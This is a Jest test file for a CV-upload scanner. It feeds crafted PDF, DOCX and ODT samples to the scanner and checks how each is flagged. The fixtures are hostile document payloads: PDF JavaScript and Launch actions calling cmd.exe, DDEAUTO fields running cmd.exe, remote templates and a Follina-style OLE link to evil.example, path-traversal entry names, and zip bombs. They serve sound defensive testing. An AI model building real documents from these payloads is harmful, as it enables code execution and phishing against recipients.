/** @jest-environment node */
import { writeFile } from "node:fs/promises";
import path from "node:path";
import { type Zippable, zipSync } from "fflate";
import { CV_HEAD_BYTES } from "../../../src/form-contract/cv";
import { testFolder } from "../../testing/fixture-site";
import { inspectCv } from "./received-cv";

const MB = 1024 * 1024;
const temp = testFolder();

/** An archive with any names, as malware would write it. */
const archive = (files: Record<string, string | Buffer>, extra?: Record<number, Uint8Array>): Buffer => {
  const entries = Object.entries(files).map(([name, content]) => [name, [Buffer.from(content), { extra }]]);
  return Buffer.from(zipSync(Object.fromEntries(entries) as Zippable));
};
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, "utf16le");

const TYPES = '<Types><Override PartName="/word/document.xml"/></Types>';
const WORD = { "[Content_Types].xml": TYPES, "word/document.xml": "<w:document/>" };
const docx = (files: Record<string, string | Buffer> = {}) => archive({ ...WORD, ...files });
const typed = (contentType: string | Buffer) => docx({ "[Content_Types].xml": contentType });
const override = (type: string) => `<Types><Override ContentType="application/vnd.${type}"/></Types>`;
const text = (xml: string) => docx({ "word/document.xml": `<w:document>${xml}</w:document>` });
const instruction = (...parts: string[]) =>
  text(parts.map((part) => `<w:r><w:instrText xml:space="preserve">${part}</w:instrText></w:r>`).join(""));
const EVIL = "http://evil.example/a";
const relation = (type: string, target: string, mode = ' TargetMode="External"') =>
  `<Relationships><Relationship Id="r" Type="http://x.example/${type}" Target="${target}"${mode}/></Relationships>`;
/** A document with a relation, by the last part of its type. */
const related = (...of: Parameters<typeof relation>) => docx({ "word/_rels/document.xml.rels": relation(...of) });
const SETTINGS = "word/_rels/settings.xml.rels";
const TEMPLATE = relation("attachedTemplate", EVIL);

const OPEN_TEXT = { mimetype: "application/vnd.oasis.opendocument.text", "content.xml": "<office/>" };
const odt = (xml = "", name = "content.xml") => archive({ ...OPEN_TEXT, [name]: `<o:body>${xml}</o:body>` });

const pdf = (body: string) => `%PDF-1.7\n${body}\n%%EOF\n`;

/** A DOCX with a number of its central directory's second entry changed. */
function tampered(offset: number, value: number): Buffer {
  const whole = docx();
  const first = whole.indexOf("PK\u0001\u0002", "latin1");
  whole.writeUInt16LE(value, whole.indexOf("PK\u0001\u0002", first + 4, "latin1") + offset);
  return whole;
}

/** An archive whose entries have a second name, for programs that look at it. */
const renamed = (name: string) =>
  archive(WORD, { 28789: Buffer.concat([Buffer.from([1, 0, 0, 0, 0]), Buffer.from(name)]) });

/** Text that packs to a quarter of its size. */
function dull(length: number): Buffer {
  let state = 1;
  const letter = () => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return 97 + (state >>> 30);
  };
  return Buffer.from(Uint8Array.from({ length }, letter));
}

async function inspect(name: string, content: string | Buffer) {
  const file = path.join(temp.folder, "cv");
  const bytes = Buffer.from(content);
  await writeFile(file, bytes);
  const result = await inspectCv({ file, name, bytes: bytes.length, head: bytes.subarray(0, CV_HEAD_BYTES), hash: "" });
  return result.ok ? result.marks.join() : result.problem;
}

test.each<[string, string, string | Buffer]>([
  ["", "plain", pdf("1 0 obj<</Type/Catalog>>endobj")],
  ["", "after a byte order mark", `\ufeff${pdf("")}`],
  ["", "after a line break", `\r\n${pdf("")}`],
  ["", "after what a printer is told", `\u001b%-12345X@PJL JOB\n${pdf("")}`],
  ["", "with links to web pages", pdf("<</Title(CSS/JavaScript)/S/URI/URI(https://a.example/Launch)>>")],
  ["", "that opens at a page", pdf("<</OpenAction 5 0 R>>5 0 obj<</S/GoTo/D[1/Fit]>>endobj 6 0 obj<</S/URI>>endobj")],
  ["", "that opens at a page of a name", pdf("<</OpenAction<</S/GoTo/D<FEFF0031>>>>>")],
  ["encryptedCv", "that is encrypted", pdf("<</Encrypt 5 0 R>>")],
  ["activeCv", "with a script", pdf("<</S/JavaScript/JS(app.alert(1))>>")],
  ["activeCv", "that starts a program, in numbers", pdf("<</S/L#61unch/F(cmd.exe)>>")],
  ["activeCv", "with an embedded file", pdf("<</Type/EmbeddedFile>>")],
  ["activeCv", "with embedded files", pdf("<</Names<</EmbeddedFiles 3 0 R>>>>")],
  ["activeCv", "with an XFA form", pdf("<</AcroForm<</XFA 4 0 R>>>>")],
  ["activeCv", "that sends a form", pdf("<</S/SubmitForm/F(http://a.example)>>")],
  ["activeCv", "that imports data", pdf("<</S/ImportData/F(a.fdf)>>")],
  ["activeCv", "with a film", pdf("<</Subtype/RichMedia>>")],
  ["externalContent", "that goes to another file", pdf("<</S/GoToR/F(//evil.example/a.pdf)>>")],
  ["externalContent", "that opens an address", pdf("<</OpenAction<</S/URI/URI(http://evil.example)>>>>")],
  ["externalContent", "that opens an address after a comment", pdf("<</OpenAction %x\n<</S %y\n/URI>>>>")],
  ["externalContent", "that opens one by reference", pdf("<</OpenAction\0 05 0 R>>endobj5 0 obj<</S/URI>>endobj")],
  ["externalContent", "that opens one on a line below", pdf("<</OpenAction 5 0 R>>\n5 0 obj<</S/URI/URI(a)>>endobj")],
  ["externalContent", "whose stream is elsewhere", pdf("<</F<</FS/URL/F(http://evil.example)>>>>")],
  ["externalContent", "whose page opens an address", pdf("<</AA<</O 5 0 R>>>> 5 0 obj <</S/URI/URI(a)>>endobj")],
  ["externalContent", "that opens one as a second step", pdf("<</OpenAction 5 0 R>> 5 0 obj<</S/GoTo/Next 6 0 R>>")],
  ["activeCv", "with an embedded file without a type", pdf("<</Type/Filespec/EF<</F 3 0 R>>>>")],
  ["activeCv", "with a script behind that, in numbers", pdf("(100 % sure)/S/#4aavaScript")],
  ["activeCv", "with a script behind a percent sign", pdf("(100 % sure)/S%x\n%y\n/#4aavaScript")],
  ["cvContent", "that ends before it begins", `%%EOF\n%PDF-1.7`],
  ["opaqueCv", "with object streams", pdf("<</Type/ObjStm>>")],
  ["cvContent", "without an end", "%PDF-1.7\nplain"],
  ["cvContent", "of its signature alone", "%PDF-1.7"],
  ["cvContent", "that is an archive", Buffer.concat([docx(), Buffer.from(pdf(""))])],
  ["cvContent", "that is a web page at once", `<html>${pdf("")}`],
  ["cvContent", "that is a web page", `%<html>${pdf("")}`],
  [
    "cvContent",
    "that is an archive after a mark",
    Buffer.concat([Buffer.from("\ufeff"), docx(), Buffer.from(pdf(""))]),
  ],
  ["cvContent", "that begins too late", `${" ".repeat(1024)}${pdf("")}`],
])("%j for a PDF %s", async (expected, _what, content) => {
  expect(await inspect("cv.pdf", content)).toBe(expected);
});

test.each<[string, string, string | Buffer]>([
  ["", "plain", docx()],
  ["", "with links", related("hyperlink", "https://a.example")],
  ["", "with a picture", related("image", "media/image1.png", "")],
  ["", "with an older link, and a picture as text", text('<v:shape href="https://a"/><image href="data:,a"/>')],
  ["", "as Word on the web has it", archive({ "[Content_Types].xml": TYPES, "word/document2.xml": "<w/>" })],
  ["", "with a link as a field", instruction(" HYPERLINK ", '"https://a.example" ')],
  ["", "about DDE and links", text("<w:instrText> PAGE </w:instrText><w:t>I know DDE and LINK http://</w:t>")],
  ["", "with a field, about DDE", text("<w:instrText> REF Budde \\o DDE </w:instrText><w:t>I know DDE</w:t>")],
  ["externalContent", "with a template from elsewhere", docx({ [SETTINGS]: TEMPLATE })],
  ["externalContent", "with that, in numbers", related("attachedTemplate", "&#104;ttp://evil.example", "")],
  ["externalContent", "with a picture by UNC", related("image", "\\\\evil.example\\a.png", "")],
  ["externalContent", "with a template from elsewhere, in capitals", docx({ [SETTINGS.toUpperCase()]: TEMPLATE })],
  ["externalContent", "with that, in UTF-16", docx({ [SETTINGS]: utf16(TEMPLATE) })],
  ["externalContent", "with a picture from elsewhere", related("image", EVIL)],
  ["externalContent", "with a frame", related("frame", EVIL)],
  ["externalContent", "with a subdocument", related("subDocument", EVIL)],
  ["externalContent", "with a field that loads a picture", instruction(` INCLUDEPICTURE "${EVIL}" \\d `)],
  ["externalContent", "with a field that loads a text", text('<w:fldSimple w:instr="INCLUDETEXT \\\\evil\\a"/>')],
  ["externalContent", "with one after a quote", instruction('A "</w:instrText><w:fldChar/><w:instrText>INCLUDE a')],
  ["activeCv,externalContent", "with an OLE object, as in Follina", related("oleObject", `mhtml:${EVIL}!x-usc`)],
  ["activeCv,externalContent", "with another document from elsewhere", related("aFChunk", EVIL)],
  ["activeCv", "with an OLE object", related("oleObject", "embeddings/oleObject1.bin", "")],
  ["activeCv", "with the parts of one", docx({ "word/embeddings/oleObject1.bin": "x" })],
  ["activeCv", "with a control", docx({ "word/activeX/activeX1.xml": "<a/>" })],
  ["activeCv", "with another document", related("aFChunk", "afchunk.dat", "")],
  ["activeCv", "with a pane of the web", docx({ "word/webextensions/taskpanes.xml": "<a/>" })],
  ["activeCv", "with RTF", docx({ "word/a.rtf": "{\\rtf1}" })],
  ["activeCv", "with DDE", instruction(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ')],
  ["activeCv", "with DDE in parts", instruction("D", "DE", "AUTO cmd")],
  ["activeCv", "with DDE in numbers", instruction(" QUOTE 68 68 69 65 85 84 79 ")],
  ["activeCv", "with DDE in a footer", docx({ "word/footer1.xml": "<w:fldSimple w:instr='DDE cmd'/>" })],
  ["externalContent", "with one called a hyperlink", related("image", "http://evil.example/hyperlink")],
  ["externalContent", "with one after a sign that ends elements", related("image", `${EVIL}" a="b>c`)],
  ["externalContent", "with a picture by UNC, in other slashes", related("image", " /\\evil.example/a.png", "")],
  ["activeCv", "with an object whose type is in numbers", related("oleO&#98;ject", "a.bin", "")],
  ["activeCv", "with DDE around a comment", instruction("DD<!-- -->EAUTO cmd")],
  ["activeCv", "with DDE as it is", instruction("<![CDATA[DDEAUTO cmd]]>")],
  ["activeCv", "with DDE in a part of another name", docx({ "word/a.dat": "<w:fldSimple w:instr='DDE cmd'/>" })],
  ["opaqueCv", "with words of its own", text('<!DOCTYPE a [<!ENTITY e "DDEAUTO">]><w:instrText>&e;</w:instrText>')],
  ["opaqueCv", "in UTF-32", docx({ [SETTINGS]: Buffer.from(`\ufeff\0${[...TEMPLATE].join("\0")}\0`, "utf16le") })],
  ["opaqueCv", "in UTF-7", docx({ "word/document.xml": "<?xml version='1.0' encoding='UTF-7'?>+ADw-" })],
  ["opaqueCv", "of elements within elements", text("<a>".repeat(2_000))],
  ["opaqueCv", "with a text of 9 MB", docx({ "word/document.xml": dull(9 * MB) })],
  ["cvContent", "that is no archive", "PK\u0003\u0004 and no archive"],
  ["cvContent", "without types", archive({ "word/document.xml": "" })],
  ["cvContent", "without a text", archive({ "[Content_Types].xml": TYPES, "a.txt": "" })],
  ["cvContent", "with macros", docx({ "word/vbaProject.bin": "x" })],
  ["cvContent", "with macros by type, in UTF-16", typed(utf16(override("ms-word.document.macroEnabled.main+xml")))],
  ["cvContent", "with macros by type, in numbers", typed(override("ms-word.document.macro&#x45;nabled.main+xml"))],
  ["cvContent", "with macros by another name", typed(override("ms-office.vbaProject"))],
  ["cvContent", "with a name that leads out", docx({ "../../etc/cron.d/x": "x" })],
  ["cvContent", "with a second name for its parts", renamed("word/settings.xml")],
  ["cvContent", "that unpacks to a hundred times its size", docx({ "word/media/a.bin": Buffer.alloc(20 * MB) })],
  ["cvContent", "that unpacks to 51 MB", docx({ "word/media/a.bin": Buffer.alloc(51 * MB, "ab c") })],
  ["cvContent", "whose parts overlap", tampered(20, 60_000)],
  ["cvContent", "with an encrypted part", tampered(8, 1)],
])("%j for a DOCX %s", async (expected, _what, content) => {
  expect(await inspect("cv.docx", content)).toBe(expected);
});

test.each<[string, string, string | Buffer]>([
  ["", "plain", odt()],
  ["", "without scripts", odt("<office:scripts/><office:forms/>")],
  ["", "with links and pictures", odt('<o:scripts/><t:a x:href="https://a.example"/><d:image x:href="P/1.png"/>')],
  ["activeCv", "with a script", odt('<office:scripts><office:script script:language="Basic"/></office:scripts>')],
  ["activeCv,externalContent", "with an event", odt('<s:event-listener xlink:href="vnd.sun.star.script:a"/>')],
  ["activeCv", "with an object", odt('<draw:object xlink:href="./Object 1"/>')],
  ["activeCv", "with DDE", odt("<office:dde-source/>")],
  ["externalContent", "with a section from elsewhere", odt('<text:section-source xlink:href="../a.odt"/>')],
  ["activeCv,externalContent", "with a key for a macro", odt('<a:item x:href="vnd.sun.star.script:a"/>', "keys.xml")],
  ["externalContent", "with a picture, in a header", odt(`<draw:image xlink:href="${EVIL}"/>`, "styles.xml")],
  ["cvContent", "that is a DOCX", docx()],
  ["cvContent", "that is a spreadsheet", archive({ ...OPEN_TEXT, mimetype: OPEN_TEXT.mimetype.replace("text", "x") })],
  ["cvContent", "with macros", archive({ ...OPEN_TEXT, "Basic/Standard/Module1.xml": "x" })],
])("%j for an ODT %s", async (expected, _what, content) => {
  expect(await inspect("cv.odt", content)).toBe(expected);
});
